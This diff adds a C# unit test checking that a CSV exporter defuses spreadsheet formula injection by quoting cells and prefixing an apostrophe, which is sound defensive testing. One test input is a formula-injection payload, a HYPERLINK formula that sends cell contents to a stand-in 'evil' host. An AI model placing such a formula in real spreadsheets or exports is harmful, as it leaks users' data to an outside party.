@@ -1,0 +1,18 @@
+using RetailGrains.Api.Imports;
+
+namespace RetailGrains.Imports;
+
+public sealed class CsvTextTests
+{
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://evil/?\"&A1)", "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\"")]
+    [InlineData("+1", "'+1")]
+    [InlineData("-1+2", "'-1+2")]
+    [InlineData("@SUM(A1)", "'@SUM(A1)")]
+    [InlineData("\t=1", "'\t=1")]
+    [InlineData("\r=1", "\"'\r=1\"")]
+    [InlineData("a=1", "a=1")]
+    [InlineData("a,b", "\"a,b\"")]
+    [InlineData("", "")]
+    public void Cells_that_a_spreadsheet_would_run_become_text(string value, string cell) => Assert.Equal(cell, CsvText.Cell(value));
+}
